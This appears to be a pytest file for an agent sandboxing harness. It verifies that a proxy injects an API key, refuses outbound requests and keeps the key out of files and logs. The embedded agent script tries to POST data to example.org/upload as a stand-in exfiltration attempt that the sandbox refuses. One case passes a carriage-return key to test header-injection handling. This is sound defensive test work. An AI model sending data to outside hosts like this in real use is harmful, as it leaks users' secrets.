"""A run whose agent needs the network: what it reached, what it was refused, and where its key is not."""

import http.server
import json
import threading

import pytest
from walls import REASONS

KEY = "sk-value-of-the-key-4711-0815"

AGENT = """
import json, os, urllib.error, urllib.request
door = os.environ["MODEL_BASE_URL"]
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
said = json.loads(direct.open(door + "/answer", b"{}", timeout=30).read())
try:
    urllib.request.urlopen("http://example.org/upload", b"secret", timeout=30)
except urllib.error.HTTPError as error:
    refused = error.code
else:
    refused = 0
if refused != 403 or os.environ["MODEL_KEY"] != "held-by-the-proxy":
    raise SystemExit(f"refused {refused}")
print(json.dumps(said["answer"]))
"""


class Model(http.server.BaseHTTPRequestHandler):
    keys: list  # of every request, set by the fixture

    def log_message(self, *_):
        pass

    def do_POST(self):
        self.keys.append(self.headers["authorization"])
        answer = json.dumps({"answer": ["a.py::one"], "repeated": self.headers["authorization"]}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)


@pytest.fixture
def model():
    handler = type("_Model", (Model,), {"keys": []})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def test_a_key_goes_out_and_never_in(bench, model):
    if all(REASONS.values()):
        pytest.skip(f"nothing on this machine contains a cell: {REASONS}")
    bench.write(agent="networked.py", source=AGENT, reps=1)
    suite = bench.suite_dir / "suite.toml"
    inject = f"""
[agents.script.inject.MODEL_BASE_URL]
upstream = "http://localhost:{model.server_port}/v1"
prefix = "Bearer "
secret = "MODEL_KEY"

[caps]"""
    suite.write_text(suite.read_text().replace("\n[caps]", inject, 1))
    bench("run", "--run-id", "r", MODEL_KEY=KEY)
    assert model.RequestHandlerClass.keys == [f"Bearer {KEY}"] * 2
    for row in bench.query("select outcome, network_refused from attempts"):
        assert row == {"outcome": "ok", "network_refused": 1}
    logs = bench.query("select text from transcripts where stream = 'network'")
    for line in ([json.loads(each) for each in log["text"].splitlines()] for log in logs):
        assert [(each["host"], each["verdict"]) for each in line] == [
            ("localhost", "injected"),
            ("example.org", "refused"),
        ]
    assert len(logs) == 2
    for path in bench.root.rglob("*"):
        assert not path.is_file() or KEY.encode() not in path.read_bytes(), path


@pytest.mark.parametrize(
    ("given", "why"),
    [({}, "MODEL_KEY is not set"), ({"MODEL_KEY": f"{KEY}\r"}, "the key MODEL_KEY cannot stand in a header")],
)
def test_a_key_that_cannot_be_sent_starts_nothing(bench, model, given, why):
    bench.write(agent="networked.py", source=AGENT, reps=1)
    suite = bench.suite_dir / "suite.toml"
    inject = f"""
[agents.script.inject.MODEL_BASE_URL]
upstream = "http://localhost:{model.server_port}"
secret = "MODEL_KEY"

[caps]"""
    suite.write_text(suite.read_text().replace("\n[caps]", inject, 1))
    done = bench("run", "--run-id", "r", code=3, **given)
    assert why in done.stderr
    assert KEY not in done.stderr
    assert model.RequestHandlerClass.keys == []
